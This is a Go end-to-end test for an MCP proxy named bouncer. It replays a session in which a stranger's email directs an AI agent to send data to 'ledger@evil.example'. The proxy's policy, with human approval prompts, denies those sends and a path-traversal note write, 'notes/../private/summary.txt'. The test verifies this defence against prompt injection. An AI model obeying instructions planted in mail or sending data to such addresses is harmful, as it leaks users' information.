package e2e

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/mcp-bouncer/bouncer/internal/approval"
)

// playStory plays the session that `bouncer demo` tells of: the same server, the same policy, the same calls. Its log stays in
// the sandbox. It returns the id of the call that a stranger's mail had told the agent to make.
func playStory(t *testing.T, s sandbox) (stolen string) {
	t.Helper()
	const teammate, newcomer, attacker = "dana@corp.example", "robin@corp.example", "ledger@evil.example"
	mail := filepath.Join(s.work, "mail")
	for _, dir := range []string{"notes", "private"} {
		if err := os.MkdirAll(filepath.Join(mail, dir), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	bouncer := bouncerBinary(t)
	c := start(t, sandbox{work: mail, env: s.env}, bouncer, "run", "--name", "mail",
		"--policy", filepath.Join(repoRoot(), "internal", "demo", "policy.yaml"), "--", bouncer, "demo-server", mail)
	c.initialize(map[string]any{"elicitation": map[string]any{}})
	email := func(to string, cc ...string) map[string]any {
		return map[string]any{"to": []string{to}, "cc": append([]string{}, cc...), "subject": "Summary", "body": "Three employees."}
	}
	note := func(path string) map[string]any { return map[string]any{"path": path, "content": "Three employees."} }
	for _, step := range []struct {
		tool   string
		args   map[string]any
		answer string // to the question that must come
		passes bool
	}{
		{"list_inbox", map[string]any{}, "", true},
		{"read_email", map[string]any{"id": "m1"}, "", true},
		{"send_email", email(teammate), "", true},
		{"send_email", email(attacker), "Deny", false},
		{"read_email", map[string]any{"id": "m2"}, "", true},
		{"send_email", email(attacker), "", false},
		{"send_email", email(newcomer), "Allow for this session", true},
		{"send_email", email(newcomer), "", true},
		{"send_email", email(teammate, newcomer, attacker), "", false},
		{"save_attachment", map[string]any{"id": "m1", "path": "notes/payroll.csv"}, "", true},
		{"write_note", note("notes/../private/summary.txt"), "", false},
		{"write_note", note("notes/summary.txt"), "", true},
		{"write_note", note("notes/summary-2.txt"), "", false},
	} {
		if got := c.ask(step.tool, step.args, step.answer); isError(t, got) == step.passes {
			t.Errorf("%s %v: %s", step.tool, step.args, shorten(got.raw))
		}
	}
	if code := c.close(); code != 0 {
		t.Errorf("exit code %d", code)
	}
	lines, _ := logLines(t, filepath.Join(s.bouncer, "audit.jsonl"))
	for _, line := range lines {
		if line.Verdict == "deny" && stolen == "" && line.Reason == "destination to[0]='"+attacker+"' came from untrusted data" {
			stolen = line.ID
		}
	}
	if stolen == "" {
		t.Fatalf("no denial is logged: %+v", lines)
	}
	return stolen
}

// ask is call with a person at the client who answers the question that must come; with "" none may.
func (c *client) ask(tool string, args map[string]any, answer string) frame {
	c.t.Helper()
	if answer == "" {
		return c.call(tool, args)
	}
	c.nextID++
	id := fmt.Sprint(c.nextID)
	c.send(fmt.Sprintf(`{"jsonrpc":"2.0","id":%s,"method":"tools/call","params":%s}`, id, c.encode(map[string]any{"name": tool, "arguments": args})))
	question := c.awaitMethod("elicitation/create")
	var asked struct {
		Params struct {
			RequestedSchema struct{ Required []string }
		}
	}
	if err := json.Unmarshal([]byte(question.raw), &asked); err != nil || len(asked.Params.RequestedSchema.Required) != 1 {
		c.t.Fatalf("not one required choice, %v: %s", err, shorten(question.raw))
	}
	time.Sleep(approval.Fastest + 50*time.Millisecond) // what comes sooner is no person's answer
	content := map[string]any{asked.Params.RequestedSchema.Required[0]: answer}
	c.send(fmt.Sprintf(`{"jsonrpc":"2.0","id":%s,"result":%s}`, question.id, c.encode(map[string]any{"action": "accept", "content": content})))
	return c.await(id)
}
